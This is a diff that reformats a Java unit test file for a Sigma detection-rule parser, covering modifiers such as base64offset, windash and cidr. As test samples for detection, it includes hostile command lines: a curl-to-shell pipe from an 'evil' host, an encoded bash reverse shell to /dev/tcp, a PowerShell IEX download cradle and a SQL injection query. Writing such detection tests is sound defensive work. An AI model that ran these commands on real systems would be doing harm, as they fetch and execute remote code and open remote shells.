@@ -44,7 +44,9 @@ class SigmaParserTest {
 
     /** A process_creation rule on linux with the given detection lines (indented two spaces). */
     private static Rule process(String detection) {
-        return compile("title: T\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n" + detection).get(0);
+        return compile("title: T\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
+                        + detection)
+                .get(0);
     }
 
     private static LogEvent commandLine(String line) {
@@ -61,60 +63,100 @@ class SigmaParserTest {
     class Rules {
         @Test
         void levelsMapOntoSeverities() {
-            Map<String, Severity> expected = Map.of("informational", Severity.LOW, "low", Severity.LOW,
-                    "medium", Severity.MEDIUM, "high", Severity.HIGH, "critical", Severity.CRITICAL);
+            Map<String, Severity> expected = Map.of(
+                    "informational",
+                    Severity.LOW,
+                    "low",
+                    Severity.LOW,
+                    "medium",
+                    Severity.MEDIUM,
+                    "high",
+                    Severity.HIGH,
+                    "critical",
+                    Severity.CRITICAL);
             expected.forEach((level, severity) -> assertThat(compile("title: T\nid: t\nlevel: " + level
-                    + "\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\n").get(0).severity()).isEqualTo(severity));
-            assertThat(errors("title: T\nlevel: severe\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\n"))
-                    .extracting(RuleError::toString).containsExactly("s.yml:2: level 'severe' must be informational, low, medium, high or critical");
+                                    + "\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\n")
+                            .get(0)
+                            .severity())
+                    .isEqualTo(severity));
+            assertThat(
+                            errors(
+                                    "title: T\nlevel: severe\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\n"))
+                    .extracting(RuleError::toString)
+                    .containsExactly("s.yml:2: level 'severe' must be informational, low, medium, high or critical");
         }
 
         @Test
         void aSigmaRuleIsAMatchRuleWithItsUuidTagsAndStatus() {
-            Rule rule = compile("title: T\nid: 3C2EA4D4-7f1c-4b0a-9a51-2f6a1d9b2c01\nstatus: deprecated\ntags: [attack.T1110]\n"
-                    + "logsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\nfalsepositives: [none]\nauthor: me\n").get(0);
+            Rule rule = compile(
+                            "title: T\nid: 3C2EA4D4-7f1c-4b0a-9a51-2f6a1d9b2c01\nstatus: deprecated\ntags: [attack.T1110]\n"
+                                    + "logsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\nfalsepositives: [none]\nauthor: me\n")
+                    .get(0);
             assertThat(rule.id()).isEqualTo("3c2ea4d4-7f1c-4b0a-9a51-2f6a1d9b2c01");
             assertThat(rule.kind()).isEqualTo(RuleKind.MATCH);
             assertThat(rule.tags()).containsExactly("attack.t1110");
-            assertThat(rule.enabled()).as("deprecated rules are catalogued, not run").isFalse();
+            assertThat(rule.enabled())
+                    .as("deprecated rules are catalogued, not run")
+                    .isFalse();
         }
 
         @Test
         void keywordsSearchMessageAndAnyMatches() {
-            Rule rule = compile("title: T\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password', 'Invalid user']\n  condition: k\n").get(0);
-            assertThat(rule.condition().test(message("sshd: Invalid user admin from 1.2.3.4", Map.of()))).isTrue();
-            assertThat(rule.condition().test(message("sshd: Accepted password for bob", Map.of()))).isFalse();
+            Rule rule = compile(
+                            "title: T\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password', 'Invalid user']\n  condition: k\n")
+                    .get(0);
+            assertThat(rule.condition().test(message("sshd: Invalid user admin from 1.2.3.4", Map.of())))
+                    .isTrue();
+            assertThat(rule.condition().test(message("sshd: Accepted password for bob", Map.of())))
+                    .isFalse();
         }
 
         @Test
         void mapsAreAndListsAreOrNullIsAbsent() {
-            Rule rule = process("  s:\n    CommandLine|contains: [curl, wget]\n    User: [root, admin]\n  no_pid:\n    ProcessId: null\n  condition: s and no_pid\n");
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.command_line", "wget x", "user.name", "admin")))).isTrue();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.command_line", "wget x", "user.name", "bob")))).isFalse();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.command_line", "wget x", "user.name", "root", "process.pid", 4L))))
-                    .as("null means absent, and this event has a ProcessId").isFalse();
+            Rule rule = process(
+                    "  s:\n    CommandLine|contains: [curl, wget]\n    User: [root, admin]\n  no_pid:\n    ProcessId: null\n  condition: s and no_pid\n");
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0, "h", Map.of("process.command_line", "wget x", "user.name", "admin"))))
+                    .isTrue();
+            assertThat(rule.condition()
+                            .test(Fixtures.event(0, "h", Map.of("process.command_line", "wget x", "user.name", "bob"))))
+                    .isFalse();
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0,
+                                    "h",
+                                    Map.of("process.command_line", "wget x", "user.name", "root", "process.pid", 4L))))
+                    .as("null means absent, and this event has a ProcessId")
+                    .isFalse();
         }
 
         @Test
         void aListOfMapsIsAnyOfThem() {
-            Rule rule = process("  s:\n    - {Image|endswith: /curl}\n    - {CommandLine|startswith: 'python -c'}\n  condition: s\n");
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.executable", "/usr/bin/curl")))).isTrue();
-            assertThat(rule.condition().test(commandLine("python -c 'print(1)'"))).isTrue();
+            Rule rule = process(
+                    "  s:\n    - {Image|endswith: /curl}\n    - {CommandLine|startswith: 'python -c'}\n  condition: s\n");
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.executable", "/usr/bin/curl"))))
+                    .isTrue();
+            assertThat(rule.condition().test(commandLine("python -c 'print(1)'")))
+                    .isTrue();
             assertThat(rule.condition().test(commandLine("python x.py"))).isFalse();
         }
 
         @Test
         void wildcardsStayWildcardsInsideContainsAndCanBeEscaped() {
-            Rule rule = process("  s: {CommandLine|contains: 'curl *| sh'}\n  e: {CommandLine|endswith: 'x\\*'}\n  condition: s or e\n");
-            assertThat(rule.condition().test(commandLine("sudo curl http://evil | sh -s"))).isTrue();
+            Rule rule = process(
+                    "  s: {CommandLine|contains: 'curl *| sh'}\n  e: {CommandLine|endswith: 'x\\*'}\n  condition: s or e\n");
+            assertThat(rule.condition().test(commandLine("sudo curl http://evil | sh -s")))
+                    .isTrue();
             assertThat(rule.condition().test(commandLine("ls x*"))).isTrue();
             assertThat(rule.condition().test(commandLine("ls xy"))).isFalse();
         }
 
         @Test
         void conditionsWithQuantifiersAndParentheses() {
-            Rule rule = process("  sel_a: {CommandLine|contains: a1}\n  sel_b: {CommandLine|contains: b2}\n  filter: {User: root}\n"
-                    + "  condition: all of sel_* and not (filter)\n");
+            Rule rule = process(
+                    "  sel_a: {CommandLine|contains: a1}\n  sel_b: {CommandLine|contains: b2}\n  filter: {User: root}\n"
+                            + "  condition: all of sel_* and not (filter)\n");
             assertThat(rule.condition().test(commandLine("a1 b2"))).isTrue();
             assertThat(rule.condition().test(commandLine("a1"))).isFalse();
         }
@@ -125,29 +167,54 @@ class SigmaParserTest {
         @Test
         void anUnmappableFieldIsReportedWithItsLine() {
             assertThat(errors("title: T\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n"
-                    + "    CommandLine|contains: x\n    CurrentDirectory|startswith: /tmp\n  condition: s\n"))
-                    .extracting(RuleError::toString).singleElement().asString()
-                    .startsWith("s.yml:6: unmapped field 'CurrentDirectory' for product=linux category=process_creation");
+                            + "    CommandLine|contains: x\n    CurrentDirectory|startswith: /tmp\n  condition: s\n"))
+                    .extracting(RuleError::toString)
+                    .singleElement()
+                    .asString()
+                    .startsWith(
+                            "s.yml:6: unmapped field 'CurrentDirectory' for product=linux category=process_creation");
         }
 
         @Test
         void aFieldOnlyInMessageNeedsContainsOrRe(@TempDir Path dir) throws Exception {
-            Path file = Files.writeString(dir.resolve(FieldMapping.FILE_NAME), "category:\n  webserver:\n    cs-uri-query: message\n");
-            assertThat(SigmaParser.parseAll("s.yml", "title: T\nlogsource: {category: webserver}\ndetection:\n  s: {cs-uri-query: '/x'}\n  condition: s\n",
-                    FieldMapping.load(file), new ArrayList<>()).errors())
-                    .extracting(RuleError::toString).singleElement().asString().contains("s.yml:4: field 'cs-uri-query' is only searchable in message");
+            Path file = Files.writeString(
+                    dir.resolve(FieldMapping.FILE_NAME), "category:\n  webserver:\n    cs-uri-query: message\n");
+            assertThat(SigmaParser.parseAll(
+                                    "s.yml",
+                                    "title: T\nlogsource: {category: webserver}\ndetection:\n  s: {cs-uri-query: '/x'}\n  condition: s\n",
+                                    FieldMapping.load(file),
+                                    new ArrayList<>())
+                            .errors())
+                    .extracting(RuleError::toString)
+                    .singleElement()
+                    .asString()
+                    .contains("s.yml:4: field 'cs-uri-query' is only searchable in message");
         }
 
         @Test
         void aggregationsWithoutTimeframeOtherAggregationsAndUnknownModifiersAreReported() {
-            assertThat(errors("title: T\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k | count() by host > 5\n"))
-                    .extracting(RuleError::message).containsExactly("the aggregation '| count() ...' needs a timeframe beside it");
-            assertThat(errors("title: T\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  timeframe: 5m\n  condition: k | max(x) > 5\n"))
-                    .extracting(RuleError::line).containsExactly(6);
-            assertThat(errors("title: T\nlogsource: {product: linux}\ndetection:\n  k: {CommandLine|frob: x}\n  condition: k\n"))
-                    .extracting(RuleError::toString).singleElement().asString().startsWith("s.yml:4: unknown modifier 'frob'");
-            assertThat(errors("title: T\nlogsource: {product: linux}\ndetection:\n  k: {CommandLine|contains|i: x}\n  condition: k\n"))
-                    .as("regex flags only after re").hasSize(1);
+            assertThat(
+                            errors(
+                                    "title: T\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k | count() by host > 5\n"))
+                    .extracting(RuleError::message)
+                    .containsExactly("the aggregation '| count() ...' needs a timeframe beside it");
+            assertThat(
+                            errors(
+                                    "title: T\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  timeframe: 5m\n  condition: k | max(x) > 5\n"))
+                    .extracting(RuleError::line)
+                    .containsExactly(6);
+            assertThat(
+                            errors(
+                                    "title: T\nlogsource: {product: linux}\ndetection:\n  k: {CommandLine|frob: x}\n  condition: k\n"))
+                    .extracting(RuleError::toString)
+                    .singleElement()
+                    .asString()
+                    .startsWith("s.yml:4: unknown modifier 'frob'");
+            assertThat(
+                            errors(
+                                    "title: T\nlogsource: {product: linux}\ndetection:\n  k: {CommandLine|contains|i: x}\n  condition: k\n"))
+                    .as("regex flags only after re")
+                    .hasSize(1);
         }
     }
 
@@ -159,15 +226,20 @@ class SigmaParserTest {
 
         @Test
         void legacyCountAggregationsBecomeCountRules() {
-            Rule events = compile("title: T\nid: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password']\n"
-                    + "  timeframe: 10m\n  condition: k | count() by SourceIp > 5\n").get(0);
+            Rule events = compile(
+                            "title: T\nid: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password']\n"
+                                    + "  timeframe: 10m\n  condition: k | count() by SourceIp > 5\n")
+                    .get(0);
             assertThat(events.kind()).isEqualTo(RuleKind.COUNT);
             assertThat(events.groupBy()).containsExactly("source.address");
             assertThat(events.count().min()).isEqualTo(6);
             assertThat(events.count().within()).hasMinutes(10);
-            assertThat(events.condition().test(message("Failed password for x", Map.of()))).isTrue();
-            Rule users = compile("title: T\nid: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password']\n"
-                    + "  timeframe: 1h\n  condition: k | count(User) < 3\n").get(0);
+            assertThat(events.condition().test(message("Failed password for x", Map.of())))
+                    .isTrue();
+            Rule users = compile(
+                            "title: T\nid: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password']\n"
+                                    + "  timeframe: 1h\n  condition: k | count(User) < 3\n")
+                    .get(0);
             assertThat(users.groupBy()).containsExactly("host");
             assertThat(users.count().distinctField()).isEqualTo("user.name");
             assertThat(users.count().max()).isEqualTo(2);
@@ -184,78 +256,134 @@ class SigmaParserTest {
         @Test
         void imageIsTheProgramsPathSoDirectoryTestsWork() {
             Rule tmp = process("  s: {Image|startswith: '/tmp/'}\n  condition: s\n");
-            assertThat(tmp.condition().test(Fixtures.event(0, "h", Map.of("process.executable", "/tmp/x", "process.name", "x")))).isTrue();
-            assertThat(tmp.condition().test(Fixtures.event(0, "h", Map.of("process.executable", "/usr/bin/x", "process.name", "x")))).isFalse();
+            assertThat(tmp.condition()
+                            .test(Fixtures.event(0, "h", Map.of("process.executable", "/tmp/x", "process.name", "x"))))
+                    .isTrue();
+            assertThat(tmp.condition()
+                            .test(Fixtures.event(
+                                    0, "h", Map.of("process.executable", "/usr/bin/x", "process.name", "x"))))
+                    .isFalse();
             Rule python = process("  s: {Image|contains: '/python'}\n  condition: s\n");
-            assertThat(python.condition().test(Fixtures.event(0, "h", Map.of("process.executable", "/usr/bin/python3")))).isTrue();
+            assertThat(python.condition()
+                            .test(Fixtures.event(0, "h", Map.of("process.executable", "/usr/bin/python3"))))
+                    .isTrue();
         }
 
         @Test
         void imageIsAPathButProcessNameOnlyTheProgramsName(@TempDir Path dir) throws Exception {
             // a source that sends only the program's name: the mapping says basename(process.name)
-            FieldMapping names = FieldMapping.load(Files.writeString(dir.resolve(FieldMapping.FILE_NAME),
-                    "category:\n  process_creation:\n    Image: basename(process.name)\n    CommandLine: process.command_line\n"));
+            FieldMapping names = FieldMapping.load(
+                    Files.writeString(
+                            dir.resolve(FieldMapping.FILE_NAME),
+                            "category:\n  process_creation:\n    Image: basename(process.name)\n    CommandLine: process.command_line\n"));
             java.util.function.Function<String, Rule> process = detection -> {
                 List<Rule> rules = new ArrayList<>();
-                assertThat(SigmaParser.parseAll("s.yml", "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\n"
-                        + "detection:\n" + detection, names, rules).errors()).isEmpty();
+                assertThat(SigmaParser.parseAll(
+                                        "s.yml",
+                                        "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\n"
+                                                + "detection:\n" + detection,
+                                        names,
+                                        rules)
+                                .errors())
+                        .isEmpty();
                 return rules.get(0);
             };
-            Rule rule = process.apply("  s: {Image|endswith: ['/curl', 'wget'], CommandLine|contains: x}\n  condition: s\n");
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.name", "curl", "process.command_line", "x")))).isTrue();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.name", "libcurl", "process.command_line", "x"))))
-                    .as("'/curl' ends the path, so it is the whole name").isFalse();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.name", "mywget", "process.command_line", "x")))).isTrue();
+            Rule rule = process.apply(
+                    "  s: {Image|endswith: ['/curl', 'wget'], CommandLine|contains: x}\n  condition: s\n");
+            assertThat(rule.condition()
+                            .test(Fixtures.event(0, "h", Map.of("process.name", "curl", "process.command_line", "x"))))
+                    .isTrue();
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0, "h", Map.of("process.name", "libcurl", "process.command_line", "x"))))
+                    .as("'/curl' ends the path, so it is the whole name")
+                    .isFalse();
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0, "h", Map.of("process.name", "mywget", "process.command_line", "x"))))
+                    .isTrue();
             Rule exact = process.apply("  s: {Image: '/usr/bin/dd'}\n  condition: s\n");
-            assertThat(exact.condition().test(Fixtures.event(0, "h", Map.of("process.name", "dd")))).isTrue();
-            assertThat(SigmaParser.parseAll("s.yml", "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
-                    + "  s: {Image|startswith: '/tmp/'}\n  condition: s\n", names, new ArrayList<>()).errors())
-                    .extracting(RuleError::message).singleElement().asString().contains("holds only the program's name");
+            assertThat(exact.condition().test(Fixtures.event(0, "h", Map.of("process.name", "dd"))))
+                    .isTrue();
+            assertThat(SigmaParser.parseAll(
+                                    "s.yml",
+                                    "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
+                                            + "  s: {Image|startswith: '/tmp/'}\n  condition: s\n",
+                                    names,
+                                    new ArrayList<>())
+                            .errors())
+                    .extracting(RuleError::message)
+                    .singleElement()
+                    .asString()
+                    .contains("holds only the program's name");
         }
 
         @Test
         void base64MatchesTheEncodedValueCaseSensitively() {
             Rule rule = process("  s: {CommandLine|base64|contains: 'bash -i'}\n  condition: s\n");
-            assertThat(rule.condition().test(commandLine("echo " + b64("bash -i") + " | base64 -d"))).isTrue();
-            assertThat(rule.condition().test(commandLine("echo " + b64("bash -i").toLowerCase() + " | base64 -d"))).isFalse();
+            assertThat(rule.condition().test(commandLine("echo " + b64("bash -i") + " | base64 -d")))
+                    .isTrue();
+            assertThat(rule.condition()
+                            .test(commandLine("echo " + b64("bash -i").toLowerCase() + " | base64 -d")))
+                    .isFalse();
         }
 
         @Test
         void base64offsetFindsTheValueAtEveryOffset() {
             Rule rule = process("  s: {CommandLine|base64offset|contains: '/dev/tcp/'}\n  condition: s\n");
             for (String prefix : List.of("", "a", "ab", "abc", "abcd")) {
-                assertThat(rule.condition().test(commandLine("x " + b64(prefix + "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))))
-                        .as("offset %d", prefix.length()).isTrue();
+                assertThat(rule.condition()
+                                .test(commandLine("x " + b64(prefix + "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))))
+                        .as("offset %d", prefix.length())
+                        .isTrue();
             }
-            assertThat(rule.condition().test(commandLine("x " + b64("bash -i >& /dev/udp/1.2.3.4/1")))).isFalse();
+            assertThat(rule.condition().test(commandLine("x " + b64("bash -i >& /dev/udp/1.2.3.4/1"))))
+                    .isFalse();
         }
 
         @Test
         void wideThenBase64IsPowerShellsEncodedCommand() {
             Rule rule = process("  s: {CommandLine|wide|base64offset|contains: 'IEX'}\n  condition: s\n");
-            String encoded = Base64.getEncoder().encodeToString("$x; IEX (New-Object Net.WebClient)".getBytes(StandardCharsets.UTF_16LE));
-            assertThat(rule.condition().test(commandLine("pwsh -enc " + encoded))).isTrue();
-            assertThat(rule.condition().test(commandLine("pwsh -enc " + b64("$x; IEX (New-Object Net.WebClient)")))).isFalse();
+            String encoded = Base64.getEncoder()
+                    .encodeToString("$x; IEX (New-Object Net.WebClient)".getBytes(StandardCharsets.UTF_16LE));
+            assertThat(rule.condition().test(commandLine("pwsh -enc " + encoded)))
+                    .isTrue();
+            assertThat(rule.condition().test(commandLine("pwsh -enc " + b64("$x; IEX (New-Object Net.WebClient)"))))
+                    .isFalse();
         }
 
         @Test
         void utf16VariantsEncodeTheValue() {
             String value = "ab";
-            assertThat(process("  s: {CommandLine|utf16le|contains: ab}\n  condition: s\n").condition()
-                    .test(commandLine(new String(value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1)))).isTrue();
-            assertThat(process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n").condition()
-                    .test(commandLine(new String(value.getBytes(StandardCharsets.UTF_16BE), StandardCharsets.ISO_8859_1)))).isTrue();
-            assertThat(process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n").condition()
-                    .test(commandLine(new String(value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1)))).isFalse();
-            assertThat(process("  s: {CommandLine|utf16|base64|contains: ab}\n  condition: s\n").condition()
-                    .test(commandLine(Base64.getEncoder().encodeToString(new byte[] {(byte) 0xFF, (byte) 0xFE, 'a', 0, 'b', 0})))).isTrue();
+            assertThat(process("  s: {CommandLine|utf16le|contains: ab}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine(new String(
+                                    value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1))))
+                    .isTrue();
+            assertThat(process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine(new String(
+                                    value.getBytes(StandardCharsets.UTF_16BE), StandardCharsets.ISO_8859_1))))
+                    .isTrue();
+            assertThat(process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine(new String(
+                                    value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1))))
+                    .isFalse();
+            assertThat(process("  s: {CommandLine|utf16|base64|contains: ab}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine(Base64.getEncoder()
+                                    .encodeToString(new byte[] {(byte) 0xFF, (byte) 0xFE, 'a', 0, 'b', 0}))))
+                    .isTrue();
         }
 
         @Test
         void windashAcceptsEveryDashForAnOption() {
             Rule rule = process("  s: {CommandLine|windash|contains: ' -f '}\n  condition: s\n");
             for (String dash : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
-                assertThat(rule.condition().test(commandLine("tool " + dash + "f x"))).as(dash).isTrue();
+                assertThat(rule.condition().test(commandLine("tool " + dash + "f x")))
+                        .as(dash)
+                        .isTrue();
             }
             assertThat(rule.condition().test(commandLine("tool +f x"))).isFalse();
         }
@@ -271,93 +399,201 @@ class SigmaParserTest {
 
         @Test
         void fieldrefComparesTwoFieldsOfTheEvent() {
-            Rule rule = compile("title: T\nlogsource: {product: linux}\ndetection:\n  s: {User|fieldref: TargetUser}\n  condition: s\n").get(0);
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "root", "user.target.name", "ROOT")))).isTrue();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "bob", "user.target.name", "root")))).isFalse();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "bob")))).isFalse();
+            Rule rule = compile(
+                            "title: T\nlogsource: {product: linux}\ndetection:\n  s: {User|fieldref: TargetUser}\n  condition: s\n")
+                    .get(0);
+            assertThat(rule.condition()
+                            .test(Fixtures.event(0, "h", Map.of("user.name", "root", "user.target.name", "ROOT"))))
+                    .isTrue();
+            assertThat(rule.condition()
+                            .test(Fixtures.event(0, "h", Map.of("user.name", "bob", "user.target.name", "root"))))
+                    .isFalse();
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "bob"))))
+                    .isFalse();
         }
 
         @Test
         void regexFlags() {
-            assertThat(process("  s: {CommandLine|re: 'CURL'}\n  condition: s\n").condition().test(commandLine("curl x"))).isFalse();
-            assertThat(process("  s: {CommandLine|re|i: 'CURL'}\n  condition: s\n").condition().test(commandLine("curl x"))).isTrue();
-            assertThat(process("  s: {CommandLine|re: '^b$'}\n  condition: s\n").condition().test(commandLine("a\nb\nc"))).isFalse();
-            assertThat(process("  s: {CommandLine|re|m: '^b$'}\n  condition: s\n").condition().test(commandLine("a\nb\nc"))).isTrue();
-            assertThat(process("  s: {CommandLine|re: 'a.b'}\n  condition: s\n").condition().test(commandLine("a\nb"))).isFalse();
-            assertThat(process("  s: {CommandLine|re|s: 'a.b'}\n  condition: s\n").condition().test(commandLine("a\nb"))).isTrue();
+            assertThat(process("  s: {CommandLine|re: 'CURL'}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine("curl x")))
+                    .isFalse();
+            assertThat(process("  s: {CommandLine|re|i: 'CURL'}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine("curl x")))
+                    .isTrue();
+            assertThat(process("  s: {CommandLine|re: '^b$'}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine("a\nb\nc")))
+                    .isFalse();
+            assertThat(process("  s: {CommandLine|re|m: '^b$'}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine("a\nb\nc")))
+                    .isTrue();
+            assertThat(process("  s: {CommandLine|re: 'a.b'}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine("a\nb")))
+                    .isFalse();
+            assertThat(process("  s: {CommandLine|re|s: 'a.b'}\n  condition: s\n")
+                            .condition()
+                            .test(commandLine("a\nb")))
+                    .isTrue();
         }
 
         @Test
         void aRequestPartIsItsFieldWhenParsedElseContainsSearchesTheRawLine() {
             Rule rule = compile("title: T\nlogsource: {category: webserver}\ndetection:\n"
-                    + "  s: {cs-uri-query|contains: 'union select'}\n  condition: s\n").get(0);
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("url.query", "id=1 union select 2")))).isTrue();
-            assertThat(rule.condition().test(message("GET /?id=1 union select 2 HTTP/1.1", Map.of()))).as("raw line").isTrue();
+                            + "  s: {cs-uri-query|contains: 'union select'}\n  condition: s\n")
+                    .get(0);
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("url.query", "id=1 union select 2"))))
+                    .isTrue();
+            assertThat(rule.condition().test(message("GET /?id=1 union select 2 HTTP/1.1", Map.of())))
+                    .as("raw line")
+                    .isTrue();
             assertThat(rule.condition().test(message("GET /x HTTP/1.1 \"union select\"", Map.of("url.query", "a=1"))))
-                    .as("a parsed event is tested on its query alone").isFalse();
-            Rule exact = compile("title: T\nlogsource: {category: webserver}\ndetection:\n"
-                    + "  s: {cs-method: POST, sc-status: 200, cs-uri-stem|endswith: '/wsman'}\n  condition: s\n").get(0);
-            assertThat(exact.condition().test(Fixtures.event(0, "h", Map.of("http.request.method", "POST",
-                    "http.response.status_code", 200L, "url.path", "/x/wsman")))).isTrue();
-            assertThat(exact.condition().test(message("POST /x/wsman 200", Map.of("http.request.method", "POST",
-                    "http.response.status_code", 200L)))).as("endswith is never searched in the raw line").isFalse();
+                    .as("a parsed event is tested on its query alone")
+                    .isFalse();
+            Rule exact = compile(
+                            "title: T\nlogsource: {category: webserver}\ndetection:\n"
+                                    + "  s: {cs-method: POST, sc-status: 200, cs-uri-stem|endswith: '/wsman'}\n  condition: s\n")
+                    .get(0);
+            assertThat(exact.condition()
+                            .test(Fixtures.event(
+                                    0,
+                                    "h",
+                                    Map.of(
+                                            "http.request.method",
+                                            "POST",
+                                            "http.response.status_code",
+                                            200L,
+                                            "url.path",
+                                            "/x/wsman"))))
+                    .isTrue();
+            assertThat(exact.condition()
+                            .test(message(
+                                    "POST /x/wsman 200",
+                                    Map.of("http.request.method", "POST", "http.response.status_code", 200L))))
+                    .as("endswith is never searched in the raw line")
+                    .isFalse();
         }
 
         @Test
         void auditdArgumentsMatchAtAnyPositionAndExeIsTheWholePath() {
             Rule rule = compile("title: T\nlogsource: {product: linux, service: auditd}\ndetection:\n"
-                    + "  s: {type: EXECVE, a0: chmod, a1: '777'}\n  sys: {type: SYSCALL, exe|endswith: '/useradd', syscall: 59}\n"
-                    + "  condition: s or sys\n").get(0);
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "777", "/x")))))
+                            + "  s: {type: EXECVE, a0: chmod, a1: '777'}\n  sys: {type: SYSCALL, exe|endswith: '/useradd', syscall: 59}\n"
+                            + "  condition: s or sys\n")
+                    .get(0);
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0,
+                                    "h",
+                                    Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "777", "/x")))))
                     .isTrue();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "644")))))
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0, "h", Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "644")))))
                     .isFalse();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("auditd.type", "SYSCALL",
-                    "process.executable", "/usr/sbin/useradd", "auditd.syscall", "59")))).isTrue();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("auditd.type", "SYSCALL",
-                    "process.executable", "/tmp/useradd2", "auditd.syscall", "59")))).isFalse();
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0,
+                                    "h",
+                                    Map.of(
+                                            "auditd.type",
+                                            "SYSCALL",
+                                            "process.executable",
+                                            "/usr/sbin/useradd",
+                                            "auditd.syscall",
+                                            "59"))))
+                    .isTrue();
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0,
+                                    "h",
+                                    Map.of(
+                                            "auditd.type",
+                                            "SYSCALL",
+                                            "process.executable",
+                                            "/tmp/useradd2",
+                                            "auditd.syscall",
+                                            "59"))))
+                    .isFalse();
         }
 
         @Test
         void comparisonsCidrAndExists() {
-            Rule rule = compile("title: T\nlogsource: {category: network_connection}\ndetection:\n"
-                    + "  s: {DestinationPort|gte: 1024, DestinationIp|cidr: '203.0.113.0/24', User|exists: true}\n  condition: s\n").get(0);
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5", "user.name", "a")))).isTrue();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("destination.port", 443L, "destination.ip", "203.0.113.5", "user.name", "a")))).isFalse();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5")))).isFalse();
+            Rule rule = compile(
+                            "title: T\nlogsource: {category: network_connection}\ndetection:\n"
+                                    + "  s: {DestinationPort|gte: 1024, DestinationIp|cidr: '203.0.113.0/24', User|exists: true}\n  condition: s\n")
+                    .get(0);
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0,
+                                    "h",
+                                    Map.of(
+                                            "destination.port",
+                                            4444L,
+                                            "destination.ip",
+                                            "203.0.113.5",
+                                            "user.name",
+                                            "a"))))
+                    .isTrue();
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0,
+                                    "h",
+                                    Map.of(
+                                            "destination.port",
+                                            443L,
+                                            "destination.ip",
+                                            "203.0.113.5",
+                                            "user.name",
+                                            "a"))))
+                    .isFalse();
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0, "h", Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5"))))
+                    .isFalse();
         }
     }
 
     @Nested
     class Correlations {
